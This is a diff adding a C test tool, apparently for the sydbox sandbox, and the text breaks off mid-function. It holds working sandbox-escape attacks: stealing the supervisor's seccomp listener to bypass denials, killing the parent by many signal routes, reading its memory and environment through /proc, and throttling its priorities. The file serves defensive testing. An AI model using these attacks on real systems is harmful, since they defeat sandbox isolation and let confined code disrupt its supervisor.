@@ -1,0 +1,1366 @@
+/* syd-attack: attacks from inside the sandbox on the supervisor and on the
+ * world outside it (issue 9), one mode per attack, plus the stand-ins and
+ * launchers the tests need to show each attack working without sydbox.
+ *
+ * Convention for every attack mode: the last line is
+ *   ESCAPED <what>              and exit 0 when the attack reached its goal,
+ *   BLOCKED <step>: <ERRNO>     and exit 1 when it could not.
+ * Other lines are informational ("# ..." or "OK/FAIL item" lists).
+ * Every mode finishes within a few seconds.
+ *
+ *   syd-attack steal-listener TARGET      take the parent's seccomp listener
+ *                                         and CONTINUE our own creat(TARGET)
+ *   syd-attack naive-supervisor TARGET    stand-in supervisor: a child with a
+ *                                         notify filter (EPERM for every
+ *                                         open/openat/creat) runs steal-listener
+ *   syd-attack parent-wait [--setsid] CMD...
+ *                                         stand-in parent (2 idle threads):
+ *                                         runs CMD, prints "survived" if alive
+ *   syd-attack signal-parent METHOD       SIGKILL the parent: kill, tkill, tgkill,
+ *                                         sigqueue, tgsigqueue, pidfd, procfd,
+ *                                         threads, threads-kill, or SIGIO with
+ *                                         sigio-{fcntl,fcntl-ex,fiosetown,siocspgrp}
+ *   syd-attack proc-parent                /proc/PPID entries, memory, pidfd_getfd
+ *   syd-attack proc-layout                /proc/PPID maps, smaps...: its layout
+ *   syd-attack proc-knobs                 writes /proc/PPID/{oom_score_adj,...};
+ *                                         waits for EOF on stdin before exiting
+ *   syd-attack prio-parent                priorities and limits of the parent;
+ *                                         waits for EOF on stdin before exiting
+ *   syd-attack kill-outside -1|0|-pgrp|sigio-HOW
+ *                                         SIGTERM by pid -1 / own group (also as
+ *                                         SIGIO); the victim's death is seen as
+ *                                         EOF on fd 9
+ *   syd-attack signal-lab pidns|pgrp|ns-run [--map-root] -- CMD...
+ *                                         launcher: a victim and CMD in a new
+ *                                         pid namespace (with its own /proc)
+ *                                         or process group; ns-run: CMD alone
+ *                                         in a new pid namespace; --map-root:
+ *                                         be root of a new user namespace
+ *   syd-attack tiocsti STRING | tioclinux | tioccons
+ *   syd-attack ns-calls DIR               every namespace/mount call, one line each
+ *   syd-attack bindmount-write ALLOWED DENIED
+ *   syd-attack connect-reuse SLOWPATH ROUNDS
+ *   syd-attack magic-race N [NOISE]       two threads change the magic lock at
+ *                                         once; NOISE: a path whose denied
+ *                                         creation keeps several workers busy
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/filter.h>
+#include <linux/seccomp.h>
+#include <poll.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdatomic.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+/* ---- what the 6.1 headers lack ------------------------------------------ */
+#ifndef __NR_pidfd_open
+#define __NR_pidfd_open 434
+#endif
+#ifndef __NR_pidfd_getfd
+#define __NR_pidfd_getfd 438
+#endif
+#ifndef __NR_pidfd_send_signal
+#define __NR_pidfd_send_signal 424
+#endif
+#ifndef __NR_clone3
+#define __NR_clone3 435
+#endif
+#ifndef __NR_open_tree
+#define __NR_open_tree 428
+#endif
+#ifndef __NR_move_mount
+#define __NR_move_mount 429
+#endif
+#ifndef __NR_fsopen
+#define __NR_fsopen 430
+#endif
+#ifndef __NR_fsconfig
+#define __NR_fsconfig 431
+#endif
+#ifndef __NR_fsmount
+#define __NR_fsmount 432
+#endif
+#ifndef __NR_fspick
+#define __NR_fspick 433
+#endif
+#ifndef __NR_mount_setattr
+#define __NR_mount_setattr 442
+#endif
+#ifndef CLONE_NEWTIME
+#define CLONE_NEWTIME 0x00000080
+#endif
+#ifndef CLONE_NEWCGROUP
+#define CLONE_NEWCGROUP 0x02000000
+#endif
+#ifndef SECCOMP_USER_NOTIF_FLAG_CONTINUE
+#define SECCOMP_USER_NOTIF_FLAG_CONTINUE (1UL << 0)
+#endif
+#ifndef SECCOMP_FILTER_FLAG_NEW_LISTENER
+#define SECCOMP_FILTER_FLAG_NEW_LISTENER (1UL << 3)
+#endif
+#ifndef SECCOMP_RET_USER_NOTIF
+#define SECCOMP_RET_USER_NOTIF 0x7fc00000U
+#endif
+#ifndef AUDIT_ARCH_X86_64
+#define AUDIT_ARCH_X86_64 0xc000003eU
+#endif
+/* mount API (linux/mount.h clashes with sys/mount.h on glibc 2.36) */
+#define SA_OPEN_TREE_CLONE 1
+#define SA_OPEN_TREE_CLOEXEC O_CLOEXEC
+#define SA_MOVE_MOUNT_F_EMPTY_PATH 0x00000004
+#define SA_FSOPEN_CLOEXEC 0x00000001
+#define SA_FSCONFIG_CMD_CREATE 6
+#define SA_FSMOUNT_CLOEXEC 0x00000001
+#define SA_FSPICK_CLOEXEC 0x00000001
+#define SA_MOUNT_ATTR_RDONLY 0x00000001
+struct sa_mount_attr {
+  uint64_t attr_set, attr_clr, propagation, userns_fd;
+};
+struct sa_clone_args {
+  uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size,
+      cgroup;
+};
+/* ioprio */
+#define SA_IOPRIO_WHO_PROCESS 1
+#define SA_IOPRIO_CLASS_IDLE 3
+#define SA_IOPRIO_PRIO_VALUE(c, d) (((c) << 13) | (d))
+
+/* ---- common helpers ---------------------------------------------------- */
+static const char* en(int e) {
+  const char* n = strerrorname_np(e);
+  return n ? n : "E?";
+}
+
+static int escaped(const char* fmt, ...) {
+  va_list ap;
+  va_start(ap, fmt);
+  printf("ESCAPED ");
+  vprintf(fmt, ap);
+  printf("\n");
+  va_end(ap);
+  fflush(stdout);
+  return 0;
+}
+
+static int blocked(const char* step, int e) {
+  printf("BLOCKED %s: %s\n", step, en(e));
+  fflush(stdout);
+  return 1;
+}
+
+static void info(const char* fmt, ...) {
+  va_list ap;
+  va_start(ap, fmt);
+  printf("# ");
+  vprintf(fmt, ap);
+  printf("\n");
+  va_end(ap);
+  fflush(stdout);
+}
+
+static long pidfd_open_(pid_t pid) { return syscall(__NR_pidfd_open, pid, 0); }
+static long pidfd_getfd_(int pidfd, int fd) { return syscall(__NR_pidfd_getfd, pidfd, fd, 0); }
+
+static void sleep_ms(long ms) {
+  struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
+  while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
+  }
+}
+
+static long now_ms(void) {
+  struct timespec ts;
+  clock_gettime(CLOCK_MONOTONIC, &ts);
+  return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
+}
+
+static int write_file(const char* path, const char* s) {
+  int fd = open(path, O_WRONLY | O_CLOEXEC);
+  if (fd < 0) return -1;
+  ssize_t n = write(fd, s, strlen(s));
+  int e = errno;
+  close(fd);
+  errno = e;
+  return n == (ssize_t)strlen(s) ? 0 : -1;
+}
+
+/* Enters a new user namespace (plus `extra` namespaces) and maps the caller's
+ * ids: to themselves, or to root with `map_root`. 0 or errno. */
+static int enter_userns(int extra, int map_root) {
+  uid_t uid = geteuid();
+  gid_t gid = getegid();
+  if (unshare(CLONE_NEWUSER | extra) != 0) return errno;
+  char m[64];
+  snprintf(m, sizeof m, "%u %u 1\n", map_root ? 0 : uid, uid);
+  if (write_file("/proc/self/uid_map", m) != 0) return errno;
+  if (write_file("/proc/self/setgroups", "deny") != 0) return errno;
+  snprintf(m, sizeof m, "%u %u 1\n", map_root ? 0 : gid, gid);
+  if (write_file("/proc/self/gid_map", m) != 0) return errno;
+  return 0;
+}
+
+static int privileged(void) { return geteuid() == 0; }
+
+/* A new mount namespace where mounts stay private: as root directly, as an
+ * unprivileged user inside a new user namespace. 0 or errno. */
+static int private_mount_ns(void) {
+  int e = privileged() ? (unshare(CLONE_NEWNS) == 0 ? 0 : errno) : enter_userns(CLONE_NEWNS, 0);
+  if (e) return e;
+  if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0) return errno;
+  return 0;
+}
+
+/* ---- 1. listener theft --------------------------------------------------- */
+static int stolen_listener = -1;
+static atomic_int thief_answered;
+
+static void* thief(void* arg) {
+  (void)arg;
+  for (;;) {
+    struct seccomp_notif req;
+    memset(&req, 0, sizeof req);
+    if (ioctl(stolen_listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) {
+      if (errno == EINTR || errno == ENOENT) continue;
+      return NULL;
+    }
+    struct seccomp_notif_resp resp;
+    memset(&resp, 0, sizeof resp);
+    resp.id = req.id;
+    resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
+    if (ioctl(stolen_listener, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0) atomic_fetch_add(&thief_answered, 1);
+  }
+}
+
+static int steal_listener(const char* target) {
+  pid_t ppid = getppid();
+  int pidfd = (int)pidfd_open_(ppid);
+  if (pidfd < 0) return blocked("pidfd_open(parent)", errno);
+  int last_err = EBADF, copies = 0;
+  for (int n = 0; n < 1024 && stolen_listener < 0; ++n) {
+    int fd = (int)pidfd_getfd_(pidfd, n);
+    if (fd < 0) {
+      if (errno != EBADF) last_err = errno;
+      continue;
+    }
+    ++copies;
+    char link[64], buf[256];
+    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
+    ssize_t l = readlink(link, buf, sizeof buf - 1);
+    if (l > 0) {
+      buf[l] = 0;
+      if (strstr(buf, "seccomp notify")) {
+        stolen_listener = fd;
+        info("stole the listener: parent %d fd %d", ppid, n);
+        break;
+      }
+    }
+    close(fd);
+  }
+  if (stolen_listener < 0) return blocked(copies ? "find listener" : "pidfd_getfd(parent)", copies ? ENOENT : last_err);
+  /* The control: without the thief, the supervisor refuses the call. */
+  long pre = syscall(__NR_creat, target, 0644);
+  if (pre >= 0) {
+    printf("SETUP creat(%s) succeeded before the theft: the target is not denied\n", target);
+    return 2;
+  }
+  info("before the theft: creat: %s", en(errno));
+  pthread_t t;
+  pthread_create(&t, NULL, thief, NULL);
+  int last = 0;
+  long deadline = now_ms() + 1000;
+  for (int i = 0; now_ms() < deadline; ++i) {
+    long fd = syscall(__NR_creat, target, 0644);
+    if (fd >= 0) {
+      close((int)fd);
+      return escaped("creat %s with the stolen listener (attempt %d)", target, i + 1);
+    }
+    last = errno;
+    sleep_ms(20);
+  }
+  return blocked("creat", last);
+}
+
+/* The child installs a filter sending open/openat/creat to a listener, the
+ * parent takes the listener and answers EPERM to everything; the child
+ * then runs steal-listener against it. */
+static int naive_supervisor(const char* target) {
+  int pp[2], go[2];
+  if (pipe(pp) != 0 || pipe(go) != 0) return 100;
+  pid_t child = fork();
+  if (child == 0) {
+    struct sock_filter f[] = {
+        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_open, 3, 0),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_openat, 2, 0),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_creat, 1, 0),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
+    };
+    struct sock_fprog prog = {sizeof f / sizeof f[0], f};
+    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) _exit(100);
+    int l = (int)syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
+    if (l < 0) _exit(101);
+    if (write(pp[1], &l, sizeof l) != sizeof l) _exit(102);
+    char c;
+    if (read(go[0], &c, 1) != 1) _exit(103);
+    close(l);  /* only the supervisor holds it now */
+    close(pp[0]);
+    close(pp[1]);
+    close(go[0]);
+    close(go[1]);
+    _exit(steal_listener(target));
+  }
+  int remote;
+  if (read(pp[0], &remote, sizeof remote) != sizeof remote) return 104;
+  int pidfd = (int)pidfd_open_(child);
+  int listener = pidfd >= 0 ? (int)pidfd_getfd_(pidfd, remote) : -1;
+  if (listener < 0) {
+    kill(child, SIGKILL);
+    waitpid(child, NULL, 0);
+    return 105;
+  }
+  info("naive supervisor %d holds the listener at fd %d", getpid(), listener);
+  if (write(go[1], "g", 1) != 1) return 106;
+  int status = 0, denied = 0;
+  for (;;) {
+    if (waitpid(child, &status, WNOHANG) == child) break;
+    struct pollfd p = {listener, POLLIN, 0};
+    if (poll(&p, 1, 50) <= 0 || !(p.revents & POLLIN)) continue;
+    struct seccomp_notif req;
+    memset(&req, 0, sizeof req);
+    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) continue;
+    struct seccomp_notif_resp resp;
+    memset(&resp, 0, sizeof resp);
+    resp.id = req.id;
+    resp.error = -EPERM;
+    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0) ++denied;
+  }
+  info("naive supervisor denied %d calls", denied);
+  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
+}
+
+/* ---- 2. signals to the parent -------------------------------------------- */
+/* Makes the kernel send `sig` to `owner` (a pid, or -pgrp) as the SIGIO of
+ * a socket becoming readable: the owner set by fcntl F_SETOWN / F_SETOWN_EX
+ * or ioctl FIOSETOWN / SIOCSPGRP, the signal by F_SETSIG. 0 or errno. */
+static int sigio_signal(const char* how, pid_t owner, int sig, const char** step) {
+  int sv[2];
+  *step = "socketpair";
+  if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) != 0) return errno;
+  long r;
+  *step = how;
+  if (strcmp(how, "fcntl") == 0) r = fcntl(sv[0], F_SETOWN, owner);
+  else if (strcmp(how, "fcntl-ex") == 0) {
+    struct f_owner_ex o = {owner < 0 ? F_OWNER_PGRP : F_OWNER_PID, owner < 0 ? -owner : owner};
+    r = fcntl(sv[0], F_SETOWN_EX, &o);
+  } else if (strcmp(how, "fiosetown") == 0) r = ioctl(sv[0], FIOSETOWN, &owner);
+  else if (strcmp(how, "siocspgrp") == 0) r = ioctl(sv[0], 0x8902 /* SIOCSPGRP */, &owner);
+  else return EINVAL;
+  if (r != 0) return errno;
+  *step = "F_SETSIG";
+  if (fcntl(sv[0], F_SETSIG, sig) != 0) return errno;
+  *step = "O_ASYNC";
+  if (fcntl(sv[0], F_SETFL, fcntl(sv[0], F_GETFL) | O_ASYNC) != 0) return errno;
+  *step = "write";
+  if (write(sv[1], "x", 1) != 1) return errno;
+  return 0;
+}
+
+static void* idle_thread(void* arg) {
+  (void)arg;
+  for (;;) pause();
+  return NULL;
+}
+
+static int parent_wait(char** cmd) {
+  if (strcmp(cmd[0], "--setsid") == 0) {
+    /* A session (and so an autogroup) of its own; a process group leader
+     * cannot have one, so its child is the stand-in then. */
+    ++cmd;
+    if (setsid() < 0) {
+      pid_t c = fork();
+      if (c < 0) return 100;
+      if (c > 0) {
+        int st;
+        while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
+        }
+        return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+      }
+      if (setsid() < 0) _exit(100);
+    }
+  }
+  pthread_t t[2];
+  for (int i = 0; i < 2; ++i) pthread_create(&t[i], NULL, idle_thread, NULL);
+  pid_t c = fork();
+  if (c == 0) {
+    execvp(cmd[0], cmd);
+    _exit(127);
+  }
+  int st;
+  while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
+  }
+  int code = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+  printf("parent-wait: survived, child status %d\n", code);
+  fflush(stdout);
+  _exit(code);
+}
+
+/* Waits up to `ms` for the parent to go away (we are reparented). */
+static int parent_died(pid_t ppid, long ms) {
+  long end = now_ms() + ms;
+  while (now_ms() < end) {
+    if (getppid() != ppid) return 1;
+    sleep_ms(5);
+  }
+  return getppid() != ppid;
+}
+
+/* Thread ids of `pid` other than the leader: from /proc/PID/task, or -1. */
+static int parent_threads(pid_t pid, pid_t* out, int max) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/task", pid);
+  DIR* d = opendir(path);
+  if (!d) return -1;
+  int n = 0;
+  struct dirent* e;
+  while ((e = readdir(d)) && n < max) {
+    pid_t t = atoi(e->d_name);
+    if (t > 0 && t != pid) out[n++] = t;
+  }
+  closedir(d);
+  return n;
+}
+
+static int signal_parent(const char* m) {
+  pid_t ppid = getppid();
+  info("ppid=%d", ppid);
+  long r = -1;
+  int e = 0;
+  siginfo_t si;
+  memset(&si, 0, sizeof si);
+  si.si_signo = SIGKILL;
+  si.si_code = SI_QUEUE;
+  si.si_pid = getpid();
+  si.si_uid = getuid();
+#define M(x) (strcmp(m, x) == 0)
+  if (M("kill")) r = kill(ppid, SIGKILL);
+  else if (M("tkill")) r = syscall(__NR_tkill, ppid, SIGKILL);
+  else if (M("tgkill")) r = syscall(__NR_tgkill, ppid, ppid, SIGKILL);
+  else if (M("sigqueue")) r = syscall(__NR_rt_sigqueueinfo, ppid, SIGKILL, &si);
+  else if (M("tgsigqueue")) r = syscall(__NR_rt_tgsigqueueinfo, ppid, ppid, SIGKILL, &si);
+  else if (M("pidfd")) {
+    int fd = (int)pidfd_open_(ppid);
+    if (fd < 0) return blocked("pidfd_open", errno);
+    r = syscall(__NR_pidfd_send_signal, fd, SIGKILL, NULL, 0);
+  } else if (M("procfd")) {
+    char p[64];
+    snprintf(p, sizeof p, "/proc/%d", ppid);
+    int fd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+    if (fd < 0) return blocked("open /proc/PPID", errno);
+    r = syscall(__NR_pidfd_send_signal, fd, SIGKILL, NULL, 0);
+  } else if (strncmp(m, "sigio-", 6) == 0) {
+    const char* step;
+    int err = sigio_signal(m + 6, ppid, SIGKILL, &step);
+    if (err) return blocked(step, err);
+    r = 0;
+  } else if (M("threads") || M("threads-kill")) {
+    pid_t tids[256];
+    int n = parent_threads(ppid, tids, 256);
+    if (n < 0) {
+      /* The listing is refused: guess tids just above the parent's; tgkill
+       * only ever reaches threads of the parent's own thread group. */
+      info("/proc/%d/task: %s; guessing tids", ppid, en(errno));
+      int errs = 0;
+      for (pid_t t = ppid + 1; t <= ppid + 64; ++t) {
+        if (t == getpid()) continue;
+        if (syscall(__NR_tgkill, ppid, t, SIGKILL) == 0) r = 0;
+        else if (errno != ESRCH) e = errno, ++errs;
+      }
+      if (r != 0 && !errs) e = ESRCH;
+    } else {
+      info("parent has %d other threads", n);
+      if (n == 0) return blocked("no worker threads", ESRCH);
+      for (int i = 0; i < n; ++i) {
+        long x = M("threads") ? syscall(__NR_tkill, tids[i], SIGKILL) : kill(tids[i], SIGKILL);
+        if (x == 0) r = 0;
+        else e = errno;
+      }
+    }
+    if (r != 0) return blocked(m, e);
+  } else {
+    fprintf(stderr, "unknown method %s\n", m);
+    return 100;
+  }
+#undef M
+  if (r != 0) return blocked(m, errno);
+  if (parent_died(ppid, 500)) return escaped("signal(%s): parent %d killed", m, ppid);
+  printf("BLOCKED %s: parent alive (the call returned 0)\n", m);
+  return 1;
+}
+
+/* ---- 3. /proc of the parent ------------------------------------------- */
+static int proc_ok, proc_fail, proc_first_err;
+static char proc_list[1024];
+
+static void proc_result(const char* item, int ok, int e, const char* detail) {
+  if (ok) {
+    ++proc_ok;
+    printf("OK %s%s%s\n", item, detail ? " " : "", detail ? detail : "");
+    if (strlen(proc_list) + strlen(item) + 2 < sizeof proc_list) {
+      if (proc_list[0]) strcat(proc_list, ",");
+      strcat(proc_list, item);
+    }
+  } else {
+    ++proc_fail;
+    if (!proc_first_err) proc_first_err = e;
+    printf("FAIL %s: %s\n", item, en(e));
+  }
+}
+
+static ssize_t read_all(const char* path, char* buf, size_t len, int* err) {
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) {
+    *err = errno;
+    return -1;
+  }
+  ssize_t n = read(fd, buf, len);
+  *err = errno;
+  close(fd);
+  return n;
+}
+
+static int proc_parent(void) {
+  pid_t p = getppid();
+  info("ppid=%d", p);
+  char path[128], buf[4096];
+  int e = 0;
+  /* fd/N links */
+  int ok = 0, err = ENOENT;
+  for (int n = 0; n < 256 && !ok; ++n) {
+    snprintf(path, sizeof path, "/proc/%d/fd/%d", p, n);
+    ssize_t l = readlink(path, buf, sizeof buf - 1);
+    if (l > 0) {
+      buf[l] = 0;
+      ok = 1;
+    } else if (errno != ENOENT) err = errno;
+  }
+  proc_result("readlink-fd", ok, err, ok ? buf : NULL);
+  /* opening fd/N reopens the parent's file */
+  ok = 0, err = ENOENT;
+  for (int n = 0; n < 64 && !ok; ++n) {
+    snprintf(path, sizeof path, "/proc/%d/fd/%d", p, n);
+    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
+    if (fd >= 0) {
+      ok = 1;
+      close(fd);
+    } else if (errno != ENOENT) err = errno;
+  }
+  proc_result("open-fd", ok, err, NULL);
+  ok = 0, err = ENOENT;
+  for (int n = 0; n < 64 && !ok; ++n) {
+    snprintf(path, sizeof path, "/proc/%d/fdinfo/%d", p, n);
+    if (read_all(path, buf, sizeof buf, &e) > 0) ok = 1;
+    else if (e != ENOENT) err = e;
+  }
+  proc_result("fdinfo", ok, err, NULL);
+  /* memory: an address from maps when readable */
+  uintptr_t addr = 0x10000;
+  snprintf(path, sizeof path, "/proc/%d/maps", p);
+  ssize_t n = read_all(path, buf, sizeof buf - 1, &e);
+  if (n > 0) {
+    buf[n] = 0;
+    unsigned long lo = 0;
+    char perms[8];
+    for (char* line = buf; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
+      if (sscanf(line, "%lx-%*x %7s", &lo, perms) == 2 && perms[0] == 'r') {
+        addr = lo;
+        break;
+      }
+    }
+  }
+  snprintf(path, sizeof path, "/proc/%d/mem", p);
+  int mfd = open(path, O_RDONLY | O_CLOEXEC);
+  proc_result("open-mem", mfd >= 0, errno, NULL);
+  if (mfd >= 0) {
+    char b[16];
+    ssize_t got = pread(mfd, b, sizeof b, (off_t)addr);
+    proc_result("read-mem", got > 0, errno, NULL);
+    close(mfd);
+  } else {
+    proc_result("read-mem", 0, errno, NULL);
+  }
+  /* the contents: a read of zeroed strings reveals nothing */
+  snprintf(path, sizeof path, "/proc/%d/environ", p);
+  n = read_all(path, buf, sizeof buf, &e);
+  int content = 0;
+  for (ssize_t i = 0; i < n; ++i) content += buf[i] != 0;
+  proc_result("environ", content > 0, n >= 0 ? ENODATA : e, NULL);
+  const char* links[] = {"cwd", "root", "exe"};
+  for (int i = 0; i < 3; ++i) {
+    snprintf(path, sizeof path, "/proc/%d/%s", p, links[i]);
+    ssize_t l = readlink(path, buf, sizeof buf - 1);
+    if (l > 0) buf[l] = 0;
+    proc_result(links[i], l > 0, errno, l > 0 ? buf : NULL);
+  }
+  /* task/TID/fd of every thread (the leader when the listing fails) */
+  pid_t tids[257];
+  int nt = parent_threads(p, tids, 256);
+  if (nt < 0) nt = 0;
+  tids[nt++] = p;
+  ok = 0, err = ENOENT;
+  for (int i = 0; i < nt && !ok; ++i)
+    for (int fdn = 0; fdn < 64 && !ok; ++fdn) {
+      snprintf(path, sizeof path, "/proc/%d/task/%d/fd/%d", p, tids[i], fdn);
+      ssize_t l = readlink(path, buf, sizeof buf - 1);
+      if (l > 0) ok = 1;
+      else if (errno != ENOENT) err = errno;
+    }
+  proc_result("task-fd", ok, err, NULL);
+  /* process_vm_readv: EFAULT means the permission check passed */
+  char b[16];
+  struct iovec local = {b, sizeof b}, remote = {(void*)addr, sizeof b};
+  ssize_t got = process_vm_readv(p, &local, 1, &remote, 1, 0);
+  proc_result("process_vm_readv", got > 0 || errno == EFAULT, errno, got > 0 ? "read" : NULL);
+  int pidfd = (int)pidfd_open_(p);
+  ok = 0, err = pidfd < 0 ? errno : EBADF;
+  for (int fdn = 0; pidfd >= 0 && fdn < 64 && !ok; ++fdn) {
+    int fd = (int)pidfd_getfd_(pidfd, fdn);
+    if (fd >= 0) {
+      ok = 1;
+      close(fd);
+    } else if (errno != EBADF) err = errno;
+  }
+  proc_result("pidfd_getfd", ok, err, NULL);
+  if (proc_ok) return escaped("proc-parent: %s", proc_list);
+  return blocked("proc-parent (every item)", proc_first_err);
+}
+
+/* The parent's memory layout (defeats its ASLR for any later attack). */
+static int proc_layout(void) {
+  pid_t p = getppid();
+  info("ppid=%d", p);
+  const char* files[] = {"maps", "smaps", "smaps_rollup", "numa_maps"};
+  char path[128], buf[4096];
+  for (size_t i = 0; i < sizeof files / sizeof files[0]; ++i) {
+    snprintf(path, sizeof path, "/proc/%d/%s", p, files[i]);
+    int e = 0;
+    ssize_t n = read_all(path, buf, sizeof buf, &e);
+    proc_result(files[i], n > 0, n == 0 ? ENODATA : e, NULL);
+  }
+  if (proc_ok) return escaped("proc-layout: %s", proc_list);
+  return blocked("proc-layout (every file)", proc_first_err);
+}
+
+/* Writable /proc knobs of the parent: OOM victim choice, timer slack, core
+ * dump filter, and the CPU share of its whole session (autogroup). Waits for
+ * EOF on stdin before exiting, like prio-parent. */
+static int proc_knobs(void) {
+  pid_t p = getppid();
+  printf("ppid=%d\n", p);
+  const char* knobs[][2] = {
+      {"oom_score_adj", "1000"}, {"timerslack_ns", "100000000"}, {"coredump_filter", "0x7f"}, {"autogroup", "19"}};
+  int oks = 0, first = 0;
+  for (size_t i = 0; i < sizeof knobs / sizeof knobs[0]; ++i) {
+    char path[128];
+    snprintf(path, sizeof path, "/proc/%d/%s", p, knobs[i][0]);
+    if (write_file(path, knobs[i][1]) == 0) {
+      ++oks;
+      printf("OK %s\n", knobs[i][0]);
+    } else {
+      if (!first) first = errno;
+      printf("FAIL %s: %s\n", knobs[i][0], en(errno));
+    }
+  }
+  printf("DONE\n");
+  fflush(stdout);
+  char c;
+  long end = now_ms() + 10000;
+  while (now_ms() < end) {
+    struct pollfd pf = {0, POLLIN, 0};
+    if (poll(&pf, 1, 100) > 0 && read(0, &c, 1) <= 0) break;
+  }
+  if (oks) return escaped("proc-knobs: %d knobs of the parent written", oks);
+  return blocked("proc-knobs (every knob)", first);
+}
+
+/* ---- 4. priorities and limits ------------------------------------------- */
+static int prio_parent(void) {
+  pid_t p = getppid();
+  printf("ppid=%d\n", p);
+  int oks = 0, first = 0;
+#define R(name, expr)                                      \
+  do {                                                     \
+    long r_ = (expr);                                      \
+    if (r_ == 0) ++oks, printf("OK %s\n", name);           \
+    else {                                                 \
+      if (!first) first = errno;                           \
+      printf("FAIL %s: %s\n", name, en(errno));            \
+    }                                                      \
+  } while (0)
+  R("setpriority", setpriority(PRIO_PROCESS, p, 19));
+  cpu_set_t mine, one;
+  CPU_ZERO(&one);
+  if (sched_getaffinity(0, sizeof mine, &mine) == 0 && CPU_COUNT(&mine) > 1) {
+    int last = -1;
+    for (int i = 0; i < CPU_SETSIZE; ++i)
+      if (CPU_ISSET(i, &mine)) last = i;
+    CPU_SET(last, &one);
+    printf("# affinity target cpu %d\n", last);
+    R("sched_setaffinity", sched_setaffinity(p, sizeof one, &one));
+  } else {
+    printf("SKIP sched_setaffinity: one cpu\n");
+  }
+  struct sched_param sp = {0};
+  R("sched_setscheduler", sched_setscheduler(p, SCHED_IDLE, &sp));
+  struct rlimit rl = {10, 10};
+  R("prlimit64", prlimit(p, RLIMIT_NOFILE, &rl, NULL));
+  R("ioprio_set", syscall(__NR_ioprio_set, SA_IOPRIO_WHO_PROCESS, p, SA_IOPRIO_PRIO_VALUE(SA_IOPRIO_CLASS_IDLE, 0)));
+#undef R
+  printf("DONE\n");
+  fflush(stdout);
+  /* Stay alive (so is the parent) until the test has looked. */
+  char c;
+  long end = now_ms() + 10000;
+  while (now_ms() < end) {
+    struct pollfd pf = {0, POLLIN, 0};
+    if (poll(&pf, 1, 100) > 0 && read(0, &c, 1) <= 0) break;
+  }
+  if (oks) return escaped("prio-parent: %d calls changed the parent", oks);
+  return blocked("prio-parent (every call)", first);
+}
+
+/* ---- 5. signals outside the sandbox --------------------------------------- */
+#define VICTIM_FD 9
+
+static int kill_outside(const char* how) {
+  signal(SIGTERM, SIG_IGN);
+  long r;
+  int e;
+  if (strncmp(how, "sigio-", 6) == 0) {
+    /* SIGTERM to our own process group as the SIGIO of a socket */
+    const char* step;
+    info("%s: SIGTERM to process group %d", how, getpgrp());
+    e = sigio_signal(how + 6, -getpgrp(), SIGTERM, &step);
+    r = e ? -1 : 0;
+    info("%s returned %s", step, e ? en(e) : "0");
+  } else {
+    pid_t target = strcmp(how, "-pgrp") == 0 ? -getpgrp() : (pid_t)atoi(how);
+    info("kill(%d, SIGTERM) pid=%d pgrp=%d", target, getpid(), getpgrp());
+    r = kill(target, SIGTERM);
+    e = errno;
+    info("kill returned %ld (%s)", r, r ? en(e) : "0");
+  }
+  /* The victim holds the only write end of the pipe at VICTIM_FD: EOF
+   * means it died. */
+  long end = now_ms() + 500;
+  while (now_ms() < end) {
+    struct pollfd pf = {VICTIM_FD, POLLIN, 0};
+    if (poll(&pf, 1, 50) > 0) {
+      char c;
+      if (read(VICTIM_FD, &c, 1) == 0) return escaped("kill(%s): the victim outside the sandbox died", how);
+    }
+  }
+  char step[64];
+  snprintf(step, sizeof step, "kill(%s)", how);
+  if (r != 0) return blocked(step, e);
